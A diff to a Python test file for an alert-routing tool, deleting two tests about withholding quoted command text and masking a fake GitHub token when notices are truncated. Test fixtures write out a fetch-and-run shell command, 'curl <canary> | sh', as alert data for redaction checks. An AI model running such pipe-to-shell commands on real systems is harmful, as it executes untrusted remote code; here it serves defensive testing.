@@ -12,7 +12,7 @@ from router.decide import decide, notice_for
 from router.destinations.wording.disclosure import disclosed
 from router.destinations.wording.texts import name_of, texts_in
 from router.domain.notices import Notice
-from router.grouping.group_notices import _bounded, named_member
+from router.grouping.group_notices import named_member
 from router.parse import evidence_of
 from tests.builders import NOW, a_rulebook
 from tests.destinations.builders import a_group, a_notice
@@ -61,13 +61,6 @@ def test_what_is_withheld_is_told_in_no_other_form(alert: dict[str, Any]) -> Non
     assert CANARY not in texts_sent(noticed(**alert), NAME)
 
 
-def test_a_group_that_waited_withholds_what_its_text_quotes() -> None:
-    """What waits for room has lost its properties, and so whoever withholds one no longer knows what it said."""
-    whole = noticed(Description="Ran %{Suspicious Command}", ExtendedProperties={NAME: f"curl {CANARY} | sh"})
-    assert CANARY not in texts_sent(whole, NAME)
-    assert CANARY not in texts_sent(_bounded(whole), NAME)
-
-
 def test_a_group_withholds_what_the_title_of_another_member_quotes() -> None:
     """A member is named by its title with the names of its placeholders, since its properties are not known by then."""
     member = noticed(AlertDisplayName="Ran %{Suspicious Command}", ExtendedProperties={NAME: f"curl {CANARY} | sh"})
@@ -77,12 +70,6 @@ def test_a_group_withholds_what_the_title_of_another_member_quotes() -> None:
 
 
 TOKEN = "ghp_" + "A" * 36
-
-
-@pytest.mark.parametrize("length", [964, 980, 990])
-def test_a_credential_is_masked_before_a_text_is_cut_to_wait(length: int) -> None:
-    """Half a token is no form that is known, so it is told."""
-    assert "ghp_A" not in texts_sent(_bounded(a_notice(description=f"{'d' * (length - 1)} {TOKEN}")))
 
 
 def test_a_credential_is_masked_before_a_placeholder_is_cut() -> None:
